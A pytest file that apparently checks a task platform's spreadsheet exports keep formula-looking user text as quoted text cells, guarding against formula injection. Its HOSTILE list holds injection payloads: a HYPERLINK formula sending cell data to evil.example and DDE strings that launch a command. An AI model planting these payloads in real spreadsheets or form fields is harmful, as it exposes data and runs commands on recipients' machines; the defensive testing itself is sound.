"""Spreadsheets the platform writes keep user text as text (common.xlsx): formula-looking
values come back from every export as string cells with the quote prefix, never as
formulas, on a migrated database (SQLite and PostgreSQL)."""

import io
from datetime import UTC, datetime

import openpyxl
import pytest

from common import xlsx
from common.scope import Actor
from services.tasks import models
from services.tasks.procedures import queries as procedure_queries
from services.tasks.taskflow import commands, queries
from tests.conftest import make_uow_factory

NOW = datetime(2026, 3, 1, 2, 0, tzinfo=UTC)
ADMIN = Actor(1, "管理员", frozenset({"county_admin"}), 1, None, ("/1/",))
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes, sheet: int = 0) -> list[list]:
    book = openpyxl.load_workbook(io.BytesIO(content))
    return [list(row) for row in book.worksheets[sheet].iter_rows()]


def assert_text(cell, value: str) -> None:
    # XML reads a stored carriage return back as a line feed
    assert (cell.value, cell.data_type, cell.quotePrefix) == (value.replace("\r", "\n"), "s", True)


def test_the_helper_stores_formula_looking_text_as_text_and_leaves_numbers_alone():
    content = xlsx.write_workbook(
        "表", ["名称", "数"], [[h, n] for n, h in enumerate(HOSTILE)] + [["普通", None]]
    )
    rows = cells(content)
    assert [c.value for c in rows[0]] == ["名称", "数"]
    for row, hostile in zip(rows[1:], HOSTILE, strict=False):
        assert_text(row[0], hostile)
        assert row[1].data_type == "n"
    assert (rows[-1][0].value, rows[-1][0].data_type, rows[-1][0].quotePrefix) == ("普通", "s", False)
    # characters a workbook cannot hold are dropped, not a failed export
    assert cells(xlsx.write_workbook("表", ["x"], [["a\x01b\x1f"]]))[1][0].value == "ab"


@pytest.fixture
def uow_factory(any_database):
    return make_uow_factory(any_database("tasks"), models)


def test_the_catalogue_export_keeps_a_hostile_matter_as_text(uow_factory):
    with uow_factory() as uow:
        commands.seed_default(uow, NOW)
        commands.update_matter(
            uow, ADMIN, "PA001", {"name": HOSTILE[0], "description": HOSTILE[1], "keywords": HOSTILE[3]}, NOW
        )
        uow.commit()
        content = queries.catalogue_xlsx(uow.session)
    [row] = [r for r in cells(content) if r[0].value == "PA001"]
    assert_text(row[1], HOSTILE[0])
    assert_text(row[8], HOSTILE[3])
    assert_text(row[9], HOSTILE[1])
    assert not any(c.data_type == "f" for r in cells(content) for c in r)
    rows, errors = queries.parse_catalogue_xlsx(content)  # and it imports back as the same text
    assert not errors and [r["name"] for r in rows if r["code"] == "PA001"] == [HOSTILE[0]]


def test_the_ledger_and_chain_exports_keep_a_hostile_name_as_text(uow_factory):
    evil = Actor(7, HOSTILE[0], frozenset({"village_secretary"}), 3, None, ("/1/2/3/",))
    with uow_factory() as uow:
        rows = [
            commands.ledger_row(NOW, evil, "approved", "/1/2/3/", 1, None, "pending_review", "approved"),
            commands.ledger_row(
                NOW, Actor(8, HOSTILE[2], frozenset(), 3, None, ()), "claimed", "/1/2/3/", 1, 5
            ),
        ]
        commands.write_ledger(uow.session, rows)
        uow.commit()
        ledger, count = queries.ledger_xlsx(uow.session, ADMIN, 3, "2026-03")
        chain, chained = procedure_queries.chain_xlsx(uow.session, ADMIN, "tf", 3)
    assert count == chained == 2
    ledger_rows, chain_rows = cells(ledger), cells(chain)
    assert_text(ledger_rows[1][6], HOSTILE[0])
    assert_text(ledger_rows[2][6], HOSTILE[2])
    assert_text(chain_rows[1][4], HOSTILE[0])
    assert_text(chain_rows[2][4], HOSTILE[2])
    assert not any(c.data_type == "f" for r in ledger_rows + chain_rows for c in r)
